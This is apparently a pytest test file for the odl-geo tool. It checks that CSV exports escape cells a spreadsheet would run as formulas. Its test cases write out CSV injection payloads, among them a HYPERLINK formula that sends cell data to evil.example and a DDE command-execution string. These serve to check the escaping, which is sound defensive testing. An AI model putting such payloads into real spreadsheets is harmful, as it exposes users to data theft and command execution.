"""Issue #14, item 3: CSV cells a spreadsheet would run as a formula are neutralised in every CSV odl-geo writes.

OWASP's rule (odl_geo.csvsafe): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
(or spaces before one of them) gets a ``'`` in front; real numbers (``-5.2``) stay numbers. The sources are crafted
here, and left untouched.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from typing import TYPE_CHECKING

from odl_geo.cli.main import main
from odl_geo.csvsafe import neutralise_csv_cell

if TYPE_CHECKING:
    from pathlib import Path

    import pytest

#: value in the source -> what the CSV must hold
CASES = {
    '=HYPERLINK("http://evil.example/?"&A1;"clic")': '\'=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "  =1+1": "'  =1+1",
    "\uff1d1+1": "'\uff1d1+1",  # full-width equals sign
    "-5.2": "-5.2",  # a real number stays a number
    "+33467000000": "+33467000000",
    "-0,5": "-0,5",
    "a=b": "a=b",
    "Fontaine du Peyrou": "Fontaine du Peyrou",
}


def _lf(text: str) -> str:
    """Line breaks are normalised while converting (a CR becomes a LF): what matters is the quote in front."""
    return text.replace("\r", "\n")


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_the_rule() -> None:
    for value, expected in CASES.items():
        assert neutralise_csv_cell(value) == expected, value
    assert neutralise_csv_cell(-5) == -5 and neutralise_csv_cell(None) is None
    assert neutralise_csv_cell("'=already quoted") == "'=already quoted"


def _points_geojson(folder: Path) -> Path:
    path = folder / "points.geojson"
    features = [
        {
            "type": "Feature",
            "properties": {"nom": value, "altitude": -12.5, '=HYPERLINK("x")': "ok"},
            "geometry": {"type": "Point", "coordinates": [3.8 + i / 1000, 43.6]},
        }
        for i, value in enumerate(CASES)
    ]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    return path


def test_plain_csv_output_neutralises_formulas_and_keeps_numbers(tmp_path: Path, capsys) -> None:
    src = _points_geojson(tmp_path)
    digest = sha(src)
    code = main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "out")])
    assert code == 0, capsys.readouterr().err
    text = (tmp_path / "out" / "points.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    assert '\'=HYPERLINK("x")' in header and '=HYPERLINK("x")' not in header
    col = header.index("nom")
    assert [_lf(r[col]) for r in rows[1:]] == [_lf(v) for v in CASES.values()]
    assert {r[header.index("altitude")] for r in rows[1:]} == {"-12.5"}  # a number column is left alone
    assert {r[header.index("longitude")] for r in rows[1:]} >= {"3.8"}
    assert sha(src) == digest


def test_csv_source_to_csv_output(tmp_path: Path, capsys) -> None:
    """A CSV source (values quoted so that tabs and CRs survive) written back as CSV."""
    src = tmp_path / "sites.csv"
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    w.writerow(["nom", "lon", "lat"])
    for i, value in enumerate(CASES):
        w.writerow([value, 3.8 + i / 1000, 43.6])
    src.write_text(buf.getvalue(), encoding="utf-8", newline="")
    digest = sha(src)
    code = main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "out")])
    assert code == 0, capsys.readouterr().err
    rows = list(csv.DictReader((tmp_path / "out" / "sites.csv").open(encoding="utf-8", newline="")))
    assert [_lf(r["nom"]) for r in rows] == [_lf(v) for v in CASES.values()]
    assert sha(src) == digest


def test_theme_product_csv_neutralises_formulas(tmp_path: Path) -> None:
    from odl_geo.theme import ThemeOptions, convert_theme

    src = tmp_path / "fontaines.csv"
    src.write_text(
        "id,nom,lon,lat\n1,=1+1,3.87,43.61\n2,@SUM(A1),3.88,43.62\n3,-5.2,3.89,43.63\n4,Square,3.90,43.64\n",
        encoding="utf-8",
    )
    toml = tmp_path / "m.toml"
    toml.write_text(
        '[fields]\nid_local = "id"\nnom = "nom"\n[constants]\ntype_point = "borne_fontaine"\ninsee = "34172"\n'
        'commune = "Montpellier"\ngestionnaire = "Ville de Montpellier"\n',
        encoding="utf-8",
    )
    digest = sha(src)
    out = tmp_path / "out"
    run = convert_theme(src, out, "water", ThemeOptions(mapping=toml, area="34"))
    assert not run.report.has_errors, [i.message for i in run.report.issues]
    product = next(out.glob("*.csv"))
    rows = list(csv.DictReader(product.open(encoding="utf-8", newline="")))
    assert [r["nom"] for r in rows] == ["'=1+1", "'@SUM(A1)", "-5.2", "Square"]
    assert sha(src) == digest


def test_changes_csv_neutralises_old_and_new_values(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from odl_geo.theme import outputs

    class Layer:
        layer = "=evil"

        @staticmethod
        def changes() -> list[dict[str, object]]:
            return [{"feature": 0, "field": "@f", "code": "X", "old": "=1+1", "new": "-3"}]

    class Run:
        layers = (Layer(),)

    path = tmp_path / "changes.csv"
    outputs._write_changes(Run(), path)  # type: ignore[arg-type]
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows[1] == ["'=evil", "0", "'@f", "X", "'=1+1", "-3"]


def test_shapefile_fields_csv_neutralises_field_names(tmp_path: Path, capsys) -> None:
    src = tmp_path / "long.geojson"
    name = "=HYPERLINK(1) very long field name"
    feature = {"type": "Feature", "properties": {name: "v"}, "geometry": {"type": "Point", "coordinates": [3.8, 43.6]}}
    src.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), encoding="utf-8")
    code = main(["convert", str(src), "--to", "shp", "--out", str(tmp_path / "out")])
    assert code == 0, capsys.readouterr().err
    with zipfile.ZipFile(tmp_path / "out" / "long.shp.zip") as zf:
        rows = list(csv.reader(io.StringIO(zf.read("fields.csv").decode("utf-8"))))
    assert rows[1][0] == "'" + name
